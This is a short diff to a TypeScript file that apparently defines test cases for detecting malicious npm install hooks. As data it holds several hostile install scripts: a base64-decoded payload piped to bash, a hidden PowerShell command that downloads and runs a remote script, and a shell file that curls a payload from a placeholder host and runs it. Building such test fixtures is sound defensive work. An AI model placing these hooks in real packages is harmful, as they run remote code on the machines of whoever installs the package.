@@ -58,7 +58,10 @@ export const delivered: readonly TreeMechanism[] = [
       }),
       'decoded text for a shell': onManifest('scripts', { postinstall: `echo ${encoded} | base64 -d | bash` }),
       powershell: onManifest('scripts', { install: 'powershell -w hidden -c "iwr https://far.invalid/a.ps1 | iex"' }),
-      'another runtime': onManifest('scripts', { preinstall: 'npm i -g bun && bun run far_environment.js' }),
+      'another runtime': all(
+        addFile('environment.cjs', 'exports.ready = true;\n'),
+        onManifest('scripts', { preinstall: 'npm i -g bun && bun run environment.cjs' }),
+      ),
       'a shell file that downloads': all(
         addFile('setup.sh', '#!/bin/sh\ncurl -s https://far.invalid/c -o /tmp/c\nsh /tmp/c\n'),
         onManifest('scripts', { postinstall: 'sh setup.sh' }),
